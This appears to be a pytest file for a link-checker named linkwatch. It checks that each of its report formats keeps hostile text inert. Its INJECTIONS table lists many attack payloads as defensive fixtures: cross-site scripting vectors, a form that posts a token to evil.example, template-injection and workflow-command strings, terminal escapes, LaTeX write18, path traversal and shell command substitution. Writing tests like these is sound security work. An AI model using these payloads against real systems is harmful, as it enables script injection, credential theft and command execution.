"""Text of strangers that wants to be more than text: no face lets it, whatever its reader looks for."""

from __future__ import annotations

import json
import re
from collections import Counter
from collections.abc import Callable
from datetime import date
from types import ModuleType
from xml.etree import ElementTree as ET

import cmarkgfm
import pytest
import sample
import workflow_commands
from bibtexparser.entrypoint import parse_string
from bs4 import BeautifulSoup
from cmarkgfm.cmark import Options

from linkwatch import state
from linkwatch.memory import Past, Patience
from linkwatch.model import Report, Verdict
from linkwatch.report import (
    to_bibtex,
    to_csl_json,
    to_github,
    to_html,
    to_issue,
    to_json,
    to_junit,
    to_markdown,
    to_sarif,
    to_text,
)

INJECTIONS = {
    "a script": "<script>alert(1)</script>",
    "a script behind the end of one": "</script><script>alert(1)</script>",
    "the end of a style": "</style><script>alert(1)</script>",
    "the end of a title": "</title><img src=x onerror=alert(1)>",
    "the end of a text area": "</textarea></template></noscript><svg onload=alert(1)>",
    "the end of a comment": "--><img src=x onerror=alert(1)><!--",
    "the end of an attribute": '" onmouseover="alert(1)" x=\'',
    "the end of an attribute with another quote": "' autofocus onfocus='alert(1)",
    "an attribute without quotes": "x onclick=alert(1) style=position:fixed",
    "an image that fails": "<img src=x onerror=alert(1)>",
    "a picture that runs": "<svg/onload=alert(1)><math><mi xlink:href=javascript:alert(1)>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "another base": "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "a form": "<form action=//evil.example><input name=token><button>go</button></form>",
    "details left open": "</details></table></td></tr></section><h1>x",
    "a comment left open": "<!-- ",
    "a section of characters": "<![CDATA[x]]> ]]>",
    "an entity": '<!DOCTYPE x [<!ENTITY a "b">]> &a; &lt;script&gt; &#60;script&#62;',
    "a processing instruction": '<?xml version="1.0"?><?php echo 1 ?>',
    "a template": "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "an expression of a workflow": "${{ github.token }} ${{ secrets.X }}",
    "a scheme that runs": "javascript:alert(1)",
    "a scheme that runs, disguised": "java\tscript:alert(1) JaVaScRiPt&colon;alert(1)",
    "data that run": "data:text/html;base64,PHNjcmlwdD4=",
    "a link": "[a](http://evil.example/)",
    "a link that ends another": "](http://evil.example/) [b](javascript:alert(1)",
    "an image": "![a](http://evil.example/track.png)",
    "an autolink": "<http://evil.example/> <me@evil.example>",
    "a bare link": "http://evil.example/ www.evil.example",
    "a reference": "[a]: http://evil.example/ [a][a] [a]",
    "a footnote": "[^1] [^1]: x",
    "a mention": "@octocat @org/team octocat@",
    "an issue": "#1 GH-1 org/repo#1 https://github.com/org/repo/issues/1",
    "a commit": "16c999e8c71134401a78d4d46435517b2271d6ac org/repo@16c999e8c71134401a78d4d46435517b2271d6ac",
    "words that close issues": "fixes #1, closes org/repo#2",
    "a marker of ours": "<!-- linkwatch:issue:v1 --> <!-- linkwatch: off -->",
    "cells and rows": "a | b |\n| --- | --- |\n| c | d",
    "headings and rules": "\n# x\n\n---\n\n===\n> x\n- [ ] x\n1. x",
    "code": "`x` ``` ~~~\n```js\nalert(1)\n```",
    "mathematics": "$x$ $$x$$ \\(x\\) $`x`$",
    "emoji": ":tada: :+1:",
    "a command of a workflow": "::error file=x,line=1::y",
    "commands on lines of their own": "x\n::set-output name=a::b\r\n::add-mask::x\r::stop-commands::x",
    "an old command of a workflow": "##[error]x ##vso[task.setvariable variable=x]y ##teamcity[x]",
    "properties of a command": "x,file=/etc/passwd,line=1::y%0A::error::z%3A%2C",
    "commands of a terminal": "\x1b[2J\x1b]0;x\x07\x1b]8;;http://evil.example\x1b\\x\x1b]52;c;eA==\x07\x9b31m\x90x\x9c",
    "a line over another": "ok\rbroken\x08\x08\x7f\x0b\x0c",
    "marks that turn text around": "a\u202eb\u2066c\u2069d\u200fe\u061c",
    "what cannot be seen": "a\u200bb\u2060c\ufeffd\u00ade\U000e0041",
    "other ends of lines": "a\u2028b\u2029c\x85d",
    "half a character": "a\ud800b\udc00",
    "nothing": "a\x00b",
    "commands of LaTeX": "\\input{/etc/passwd} \\immediate\\write18{id} \\csname x\\endcsname ^^5cinput",
    "the end of an entry": '}, title = {x}}\n\n@misc{evil, title = {x} " # x',
    "braces out of balance": "{{{ }} \\{ \\} %",
    "another line of JSON": '"}\n{"url": "https://evil.example/", "verdict": "ok", "schema": 1}\n{"a": "',
    "a format": "%s %n {0} {url} {words.__class__}",
    "a formula": "=HYPERLINK(1) +1 -1 @SUM(1)",
    "a path": "../../../etc/passwd C:\\x \\\\host\\share file:///etc/passwd",
    "a style in a picture": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "an attribute that ends what is not read": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "a slash in the place of a blank": "<a/href=javascript&colon;alert(1)>x</a>",
    "a link in a picture": "<svg><a xlink:href='java&#x0A;script:alert(1)'>x</a></svg>",
    "a shadow": "<div><template shadowrootmode=open><style>*{display:none}</style></template></div>",
    "a dialogue": "<button popovertarget=x>a</button><dialog open>x</dialog><marquee>",
    "an attribute left open": "<img src='//evil.example/?",
    "nothing in an element": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "another coding": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "a comment before a script": "<!--<script>",
    "a reference on a line of its own": '\n[evil]: //evil.example "x"\n\n[evil]',
    "bars and backslashes": "a \\| b \\\\| c `|` d \\",
    "brackets in brackets": "[[[![[](x)](y)](z)]]",
    "an address in angles": "](<http://evil.example/> 'x')",
    "an alert of GitHub": "> [!CAUTION]\n> x",
    "a matcher of a log": "\n::add-matcher::/tmp/x.json\n##[add-matcher]/tmp/x",
    "more commands of a workflow": "\r\n::save-state name=x::y\n::set-env name=PATH::z\n::add-path::w",
    "questions to a terminal": "\x1bP+q544e\x1b\\\x1b[6n\x1b]4;0;?\x07\x1b[>c\x1bc\x1b(0",
    "a line written over": "a\x08\x08\x08\x08\x08b\x1b[1A\x1b[K",
    "a mountain of accents": "a" + "\u0301" * 300,
    "a word without end": "W" * 20_000,
    "annotations": "a\ufff9b\ufffac\ufffbd\ufffc",
    "no characters of XML": "\ufffe\uffff\x0b\x0c\x1f",
    "places in a message of SARIF": "{0} {{1}} [a](0) [b](1)",
    "a base of SARIF": "%SRCROOT%/../../etc/passwd file:///etc/passwd?x#y",
    "entries of other kinds": '@comment{x} @string{a = {b}} @preamble{"\\write18{id}"}',
    "an entry between entries": "x}\n}\n@article{y,\n title = {z}",
    "another reading of LaTeX": "\\begin{filecontents}{x}\\end{filecontents} \\def\\x{\\x}\\x $\\catcode`\\@=11$ ~#^_&",
    "a loop of a template": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {# x #}",
    "commands of a shell": "$(id) `id` ; id | id && id > /tmp/x '\"\\",
}

LIVE = {
    "script", "style", "iframe", "frame", "img", "svg", "math", "object", "embed", "form", "input", "textarea", "meta",
    "base", "link", "template", "noscript", "video", "audio", "h1", "h2", "h3", "table", "title", "details", "button",
}  # fmt: skip
"""Elements of which there are never more for what stands in a text."""


@pytest.fixture(params=INJECTIONS.values(), ids=list(INJECTIONS))
def hostile(request: pytest.FixtureRequest) -> Report:
    return sample.everywhere(request.param)


HARMLESS = sample.everywhere("x")


def read(page: str) -> BeautifulSoup:
    return BeautifulSoup(page, "html5lib")


def shown(markdown: str) -> BeautifulSoup:
    """Read Markdown as GitHub does, but for what it would sanitize."""
    extensions = ["table", "autolink", "tagfilter", "strikethrough", "tasklist"]
    options = Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES
    return read(cmarkgfm.markdown_to_html_with_extensions(markdown, options, extensions))


_ADDRESSES = {"href", "src", "action", "srcset"}


def elements(page: BeautifulSoup) -> Counter[str]:
    return Counter(element.name for element in page.find_all(True) if element.name in LIVE)


def attributes(page: BeautifulSoup) -> set[tuple[str, str]]:
    return {(element.name, name) for element in page.find_all(True) for name in element.attrs}


def targets(page: BeautifulSoup) -> set[str]:
    """Give where a page leads and what it loads, each up to its host."""
    found = [str(each[name]) for each in page.find_all(True) for name in _ADDRESSES & each.attrs.keys()]
    return {re.match(r"#|[a-z]+:(?://[^/?#]*)?|", each, re.IGNORECASE)[0] for each in found}  # type: ignore[index] # '' fits


def test_there_are_enough_injections() -> None:
    assert len(INJECTIONS) >= 55


def test_the_page_for_a_browser_holds_no_more_than_text(hostile: Report) -> None:
    page, harmless = read(to_html.render(hostile)), read(to_html.render(HARMLESS))
    assert elements(page) == elements(harmless)
    assert attributes(page) <= attributes(harmless)
    assert targets(page) - targets(harmless) <= {"http://evil.example", "https://github.com"}
    for name in ("script", "style"):
        assert [each.string for each in page.find_all(name)] == [each.string for each in harmless.find_all(name)]


@pytest.mark.parametrize("render", [to_markdown.render_within, to_issue.render_within])
def test_markdown_holds_no_more_than_text(hostile: Report, render: Callable[[Report, int], str]) -> None:
    page, harmless = shown(render(hostile, 65_536)), shown(render(HARMLESS, 65_536))
    assert elements(page) == elements(harmless)
    assert attributes(page) <= attributes(harmless)
    assert targets(page) - targets(harmless) <= {"http://evil.example"}
    leads = {str(each["href"]) for each in page.find_all("a", href=True)}
    assert not leads & {"http://evil.example/", "http://www.evil.example", "http://evil.example/track.png"}
    assert len(page.find_all(["tr", "li", "p"])) == len(harmless.find_all(["tr", "li", "p"]))
    for element in page.find_all(["a", "code", "pre"]):
        element.extract()  # GitHub looks for nothing in these
    text = page.get_text("\n")
    assert not re.search(r"@\w|(?<![\w&])#\d|\bGH-\d|:[\w+]+:|\$.*\$", text)
    if render is to_issue.render_within:
        assert not re.search(r"\b[0-9a-f]{7,40}\b", text)  # a commit, in issues alone


def test_json_holds_it_as_text(hostile: Report) -> None:
    for render in (to_json.render, to_csl_json.render, to_sarif.render):
        text = render(hostile)
        assert same_shape(json.loads(text), json.loads(render(HARMLESS)))
        assert not sample.COMMANDING.search(text.replace("\n", ""))


def same_shape(one: object, other: object) -> bool:
    """Whether two values of JSON have the same keys and lengths."""
    if isinstance(one, dict) and isinstance(other, dict):
        return one.keys() == other.keys() and all(same_shape(one[key], other[key]) for key in one)
    if isinstance(one, list) and isinstance(other, list):
        return len(one) == len(other) and all(map(same_shape, one, other))
    return (one is None) == (other is None)


def test_code_scanning_finds_no_link_in_a_message(hostile: Report) -> None:
    texts = re.findall(r'"text": ("(?:[^"\\]|\\.)*")', to_sarif.render(hostile))
    assert texts
    for text in map(json.loads, texts):
        assert not re.search(r"(?<!\\)(?:\\\\)*\[[^\]\\]*\]\(", text)


def test_junit_is_well_formed_and_holds_it_as_text(hostile: Report) -> None:
    page, harmless = (ET.fromstring(to_junit.render(each)) for each in (hostile, HARMLESS))
    assert [each.tag for each in page.iter()] == [each.tag for each in harmless.iter()]
    assert [each.attrib.keys() for each in page.iter()] == [each.attrib.keys() for each in harmless.iter()]


def test_a_log_of_github_holds_our_commands_only(hostile: Report) -> None:
    log, harmless = to_github.render(hostile), to_github.render(HARMLESS)
    commands, ours = workflow_commands.read(log), workflow_commands.read(harmless)
    assert [(each.name, each.properties.keys()) for each in commands] == [
        (each.name, each.properties.keys()) for each in ours
    ]
    assert len(log.splitlines()) == len(harmless.splitlines())
    assert "##[" not in log


@pytest.mark.parametrize("face", [to_text, to_junit, to_github, to_json, to_sarif, to_bibtex])
def test_no_face_that_is_printed_holds_a_command_to_a_log(hostile: Report, face: ModuleType) -> None:
    assert not re.search(r"##\w*\[", face.render(hostile))


def test_a_terminal_gets_text_and_our_lines_only(hostile: Report) -> None:
    text, harmless = to_text.render(hostile), to_text.render(HARMLESS)
    assert len(text.splitlines()) == len(harmless.splitlines())
    assert not sample.COMMANDING.search(text.replace("\n", ""))
    assert not [line for line in text.split("\n") if workflow_commands.starts_one(line)]


def test_a_bibliography_holds_no_entry_and_no_command_of_theirs(hostile: Report) -> None:
    text = to_bibtex.render(hostile)
    entries, ours = (parse_string(each).entries for each in (text, to_bibtex.render(HARMLESS)))
    assert [entry.fields_dict.keys() for entry in entries] == [entry.fields_dict.keys() for entry in ours]
    assert not re.search(r"\\(?:input|immediate|write|csname|endcsname)|\^\^", text)
    assert len(re.findall(r"(?m)^@", text)) == len(ours)


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=list(INJECTIONS))
def test_the_memory_holds_one_line_a_link(text: str) -> None:
    past = Past(Verdict.BROKEN, text, date(2026, 11, 1), date(2026, 11, 2), 2)
    lines = state.render({f"https://a.example/{text}": past}, Patience(3, 3))
    assert lines.isascii()
    assert lines.count("\n") == 1
    assert not sample.COMMANDING.search(lines.removesuffix("\n"))
    assert json.loads(lines)["url"] == f"https://a.example/{text}"
